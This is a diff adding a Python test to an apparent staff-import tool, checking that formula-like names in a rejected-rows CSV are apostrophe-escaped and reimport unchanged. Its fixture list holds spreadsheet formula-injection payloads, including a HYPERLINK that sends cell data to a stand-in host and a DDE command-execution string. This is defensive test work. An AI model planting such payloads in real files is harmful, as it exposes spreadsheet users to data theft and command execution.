@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import unicodedata
 from datetime import date
 from pathlib import Path
@@ -212,6 +213,34 @@ def test_skip_invalid_imports_the_valid_rows_and_writes_the_rejected(
     assert "dòng 3" in rows[1][-1] and "Giới tính" in rows[1][-1]
     assert len(rows) == 2
     assert share(tree, "ROOT", D2021) == (2, 2)
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&B2,"Xem")', "+cmd|' /C calc'!A0",
+                 "@SUM(A1:A9)", "-2+3", "'chỉ một dấu nháy", "-5"]  # fmt: skip
+
+
+def test_a_rejected_csv_reimports_as_the_text_that_was_written(
+    tree: Engine, tmp_path: Path
+) -> None:
+    """The rejected-rows CSV puts an apostrophe before formula-like text (binhdang.exports);
+    once its errors are corrected, importing it gives the names as they were, not "'=…"."""
+    rows = [staff_row(f"C{i}", name=name, sex="?") for i, name in enumerate(FORMULA_NAMES)]
+    path = staff_file(tmp_path, "hostile.csv", [staff_row("OK"), *rows])
+    outcome = import_staff(tree, path, D2021, skip_invalid=True)
+    assert outcome.rejected_file == tmp_path / "hostile.rejected.csv"
+    with outcome.rejected_file.open(encoding="utf-8-sig", newline="") as handle:
+        written = list(csv.reader(handle))
+    assert [line[1] for line in written[1:]] == [
+        "'" + name if name[0] in "=+@" or name == "-2+3" else name for name in FORMULA_NAMES
+    ]
+    corrected = [[*line[:2], "Nữ", *line[3:-1]] for line in written[1:]]  # sex fixed, no reason
+    with outcome.rejected_file.open("w", encoding="utf-8-sig", newline="") as handle:
+        csv.writer(handle).writerows([written[0][:-1], *corrected])
+    again = import_staff(tree, outcome.rejected_file, D2021)
+    assert again.added == len(FORMULA_NAMES)
+    with tree.connect() as connection:
+        names = dict(connection.execute(select(person.c.staff_code, person.c.full_name)).all())
+    assert [names[f"C{i}"] for i in range(len(FORMULA_NAMES))] == FORMULA_NAMES
 
 
 def test_missing_required_column_is_an_error(tree: Engine, tmp_path: Path) -> None:
